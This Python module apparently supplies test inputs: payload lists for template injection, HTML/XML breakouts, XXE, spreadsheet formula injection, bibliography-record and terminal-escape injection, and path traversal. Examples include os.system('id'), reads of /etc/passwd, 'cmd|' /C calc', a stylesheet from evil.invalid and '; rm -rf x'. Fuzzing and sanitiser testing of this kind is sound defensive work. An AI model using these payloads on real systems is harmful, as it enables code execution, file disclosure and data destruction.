"""Payloads against everything that is no page's body: attributes, templates, feeds, spreadsheets, bibliographies,
terminals, file systems."""

from __future__ import annotations

CALL = "xss()"
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% import os %}{{ os.system('id') }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{# 注 #}{% endblock %}",
    "{%- include '/etc/passwd' -%}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"<%= {CALL} %>",
    f"<?php {CALL} ?>",
    "#{7*7}",
    "{0.__class__}",
    "%(title)s %s %n {} {title}",
    "\\1 \\g<0> $1 $&",
    "\x020\x03\x02999\x03",
    "&#2;0&#3;",
)

BREAKOUTS = (
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" onmouseover={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f"--><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</SCRIPT\n><img src=x onerror={CALL}>",
    f"<!--<script>{CALL}",
    f'\\"}});{CALL};//',
    f"\u2028{CALL}\u2029//",
    f"</style><script>{CALL}</script>",
    f"</textarea></title></noscript><script>{CALL}</script>",
    f"&quot;&gt;&lt;script&gt;{CALL}&lt;/script&gt;",
    f"]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script><![CDATA[",
    "]]>&xxe;<!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
    f"</title><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
    "<?xml-stylesheet href='//evil.invalid/x.xsl'?>",
    "甲\x0b\x0c\ufffe\uffff\x1f乙",
)
CELLS = (
    *(f"{sign}cmd|' /C calc'!A0" for sign in "=+-@"),
    '=HYPERLINK("https://evil.invalid","甲")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    '"\n=1+1,"',
    "%0A-1+1",
)
RECORDS = (
    "甲\nER  - \n\nTY  - JOUR\nTI  - 乙",
    "甲\r\nUR  - javascript:xss()",
    "甲}\n}\n@misc{x, title={乙}",
    "甲{",
    "甲\\input{/etc/passwd}",
    "甲},\n url = {javascript:xss()}",
    "@comment{",
    "%甲\\",
    "$甲^_~#&",
    "---\ntitle: 乙\n---\n",
    "\n...\n---\nurl: javascript:xss()",
)
TERMINALS = (
    "\x1b[2J\x1b[1;31m甲\x1b]0;乙\x07",
    "\x9b31m甲\x9c",
    "\x1b]8;;javascript:xss()\x1b\\甲\x1b]8;;\x1b\\",
    "甲\r乙\b\b\x7f",
    "\u202e甲乙\u202c\u2066丙\u2069\u200f",
    "\x1bP+q\x1b\\\x1b_甲\x1b\\",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\x",
    "CON",
    "aux.txt",
    "a/../b",
    ".",
    "..",
    "甲.",
    "甲 ",
    "~root",
    "$(id)",
    "`id`",
    "; rm -rf x",
    "-rf",
    "%2e%2e%2f",
    "😀" * 90,
    "甲" * 300,
    "\u202egpj.exe",
)

TEXTS = (*BREAKOUTS, *TEMPLATES, *CELLS, *RECORDS, *TERMINALS, *PATHS)
